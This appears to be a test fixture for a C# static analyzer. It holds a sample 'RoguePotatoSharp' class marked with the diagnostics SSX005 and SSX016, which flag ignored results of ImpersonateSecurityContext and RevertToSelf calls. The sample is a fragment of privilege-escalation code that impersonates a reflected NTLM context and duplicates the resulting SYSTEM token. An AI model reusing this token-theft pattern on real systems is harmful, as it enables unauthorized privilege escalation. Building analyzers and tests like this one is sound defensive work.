// Expect: SSX005, SSX016
// Why: SSX005 ("reported … when its result is discarded", C-SSPI-5): the token grab runs even when impersonation failed; the finally RevertToSelf rules out SSX004. SSX016 (added with that rule): a revert whose result is discarded (C-SSPI-3, C-ALL-2).
using System;
using System.Runtime.InteropServices;

namespace RoguePotatoSharp
{
    [StructLayout(LayoutKind.Sequential)]
    public struct SecHandle { public IntPtr dwLower; public IntPtr dwUpper; }

    internal static class Native
    {
        [DllImport("sspicli.dll")] public static extern int ImpersonateSecurityContext(ref SecHandle phContext);
        [DllImport("advapi32.dll")] public static extern bool RevertToSelf();
        [DllImport("advapi32.dll", SetLastError = true)] public static extern bool OpenThreadToken(IntPtr thread, uint access, bool openAsSelf, out IntPtr token);
        [DllImport("advapi32.dll", SetLastError = true)] public static extern bool DuplicateTokenEx(IntPtr existing, uint access, IntPtr attrs, int level, int type, out IntPtr newToken);
        [DllImport("kernel32.dll")] public static extern IntPtr GetCurrentThread();
        [DllImport("kernel32.dll")] public static extern bool CloseHandle(IntPtr h);
    }

    internal class TokenThief
    {
        public SecHandle Context;   // set by the RPC/NTLM reflection stage

        public IntPtr Steal()
        {
            IntPtr systemToken = IntPtr.Zero;
            {|SSX005:Native.ImpersonateSecurityContext(ref Context)|};
            try
            {
                if (Native.OpenThreadToken(Native.GetCurrentThread(), 0xF01FF, false, out IntPtr tok))
                {
                    Native.DuplicateTokenEx(tok, 0xF01FF, IntPtr.Zero, 2, 1, out systemToken);
                    Native.CloseHandle(tok);
                }
                else
                {
                    Console.WriteLine("[!] OpenThreadToken err {0}", Marshal.GetLastWin32Error());
                }
            }
            finally
            {
                {|SSX016:Native.RevertToSelf()|};
            }
            return systemToken;
        }
    }
}
